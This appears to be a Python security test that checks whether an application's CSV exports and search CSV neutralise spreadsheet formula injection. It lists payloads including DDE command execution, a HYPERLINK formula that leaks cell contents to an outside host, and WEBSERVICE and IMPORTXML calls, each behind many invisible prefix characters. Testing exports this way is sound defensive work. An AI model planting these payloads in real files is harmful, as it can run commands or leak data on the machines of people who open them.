"""Cells of a CSV that a spreadsheet would run as a formula, through every list that is written as CSV."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from itertools import product

from bench.attacks import Attempt, Ground
from bench.in_process import browser, fill, opened
from store.spreadsheet import lines

TITLE = "formulas in CSV"
BOTH_DATABASES = False

FORMULAS = (
    "=1+1", "=cmd|' /C calc'!A0", '=HYPERLINK("http://e.org/"&A1,"x")', "=WEBSERVICE(A1)", "=IMPORTXML(A1,A2)", "==1", "=-1",
    "+1+1", "+cmd|' /C calc'!A0", "-1+1", "-cmd|' /C calc'!A0", "@SUM(1)", "@A1", "＝1+1", "＋1+1", "－1+1", "＠SUM(1)",
    "﹦1", "﹢1", "﹣1", "﹫A1", "\u2212" "1", "⁼1", "⁺1", "₊1",
)  # fmt: skip
BEFORE = (
    "", " ", "  ", "\t", "\n", "\r", "\r\n", "\x0b", "\x0c", "\x00", "\x1b", "\x7f", "\x85", "\xa0", "\xad", "\u180e",
    "\u1680", "\u2000", "\u2003", "\u2009", "\u200b", "\u200c", "\u200d", "\u200e", "\u200f", "\u2028", "\u2029",
    "\u202a", "\u202e", "\u202f", "\u205f", "\u2060", "\u2066", "\u3000", "\u3164", "\ufe0f", "\ufeff", "\t \u3000",
)  # fmt: skip
RUN = frozenset("=+-@＝＋－＠﹦﹢﹣﹫\u2212⁼⁺₊\t\r\n")


def attempt(ground: Ground) -> Iterator[Attempt]:
    """Write each formula behind each invisible character as a text and within a list; then through the search page."""
    for before, formula in product(BEFORE, FORMULAS):
        for value in (before + formula, [before + formula]):
            yield _judge(f"{before!r} {formula}", "".join(lines([{"a": value}], {"a": "a"})))
    with opened(ground) as pages:
        fill(pages, FORMULAS[:: 6 if ground.is_short else 1])
        table = browser(pages.start()).get("/search.csv?q=教育")
        assert table.text.count("\n") > 4, "the search finds the documents"
        yield _judge("/search.csv", table.text)


def _judge(name: str, written: str) -> Attempt:
    cells = [cell for row in list(csv.reader(io.StringIO(written, newline="")))[1:] for cell in row]
    run = [cell for cell in cells if cell[:1] in RUN or cell.strip()[:1] in RUN]
    return Attempt(name, f"is run: {run[0]!r}" if any(cell and run for cell in cells) else "")
